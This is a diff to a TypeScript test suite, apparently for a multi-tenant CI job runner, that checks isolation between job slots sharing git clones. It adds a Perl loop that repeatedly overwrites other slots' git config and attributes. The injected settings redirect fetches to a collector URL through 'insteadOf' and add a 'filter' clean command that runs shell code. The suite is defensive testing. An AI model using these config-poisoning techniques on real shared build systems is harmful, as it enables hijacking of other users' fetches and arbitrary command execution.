@@ -10,6 +10,24 @@ import { attackAs, openSlots, printedAs, type SlotsOfARepository, startCollector
 const TOKEN = 's3cret-token-of-the-project';
 /** The clones that a job of another slot tries to steer. */
 const CLONES = 'ls -d $W/.repositories/*/*.git $W/.repositories/*.git 2> /dev/null';
+/**
+ * Replaces their configuration and attributes by those in its environment, some 400 times a second. It pauses in
+ * between, because an attack that takes a core slows what it attacks.
+ */
+const ATTACK = `
+for (;;) {
+  for my $git (glob ".repositories/*/*.git .repositories/*.git") {
+    mkdir "$git/info";
+    for (["config", $ENV{CONFIG}], ["info/attributes", $ENV{ATTRIBUTES}]) {
+      my ($name, $text) = @$_;
+      open my $file, ">", "$git/$name.x" or next;
+      print $file $text;
+      close $file;
+      rename "$git/$name.x", "$git/$name";
+    }
+  }
+  select undef, undef, undef, 0.002;
+}`;
 
 describeAsRoot('jobs of one repository', () => {
   const [first, second] = newAccounts(2).slots as [ServiceAccount, ServiceAccount];
@@ -36,6 +54,11 @@ describeAsRoot('jobs of one repository', () => {
     );
   /** Names the clones and the workspaces to a script. */
   const inClones = (script: string) => `W=${slots.workspaces}; cd $W; ${script}`;
+  const attackOn = ({ config, attributes }: { readonly config: string; readonly attributes: string }) =>
+    inClones(`export ATTRIBUTES='${attributes}' CONFIG='[core]
+\trepositoryformatversion = 0
+\tbare = true
+${config}'; exec perl -e '${ATTACK}'`);
 
   test('continue in one clone, and a retry in a worktree that another slot has created', async () => {
     await slots.setProject('app', { repository: repository.url, setup: 'id -u > set-up-by' });
@@ -67,8 +90,7 @@ describeAsRoot('jobs of one repository', () => {
     const host = new URL(guarded.url).origin;
     const attack = await attackAs(
       first,
-      inClones(`printf '[core]\\n\\trepositoryformatversion = 0\\n\\tbare = true\\n[url "${collector.url}"]\\n\\tinsteadOf = ${host}/\\n' > ${slots.open}/evil
-        while :; do for d in $(${CLONES}); do cp ${slots.open}/evil $d/config.x && mv -f $d/config.x $d/config; done; done 2> /dev/null`),
+      attackOn({ config: `[url "${collector.url}"]\n\tinsteadOf = ${host}/\n`, attributes: '' }),
     );
     const outcomes: string[] = [];
     try {
@@ -119,9 +141,7 @@ describeAsRoot('jobs of one repository', () => {
     const mark = join(slots.open, 'filtered');
     const attack = await attackAs(
       first,
-      inClones(`printf '[core]\\n\\trepositoryformatversion = 0\\n\\tbare = true\\n[filter "x"]\\n\\tclean = id -u >> ${mark}\\n' > ${slots.open}/filter
-        while :; do for d in $(${CLONES}); do mkdir -p $d/info; echo '* filter=x' > $d/info/attributes
-          cp ${slots.open}/filter $d/config.x && mv -f $d/config.x $d/config; done; done 2> /dev/null`),
+      attackOn({ config: `[filter "x"]\n\tclean = id -u >> ${mark}\n`, attributes: '* filter=x\n' }),
     );
     try {
       for (let jobs = 0; jobs < 3; jobs += 1) await slots.runNew('echo 2 > README.md', second, 'ending');
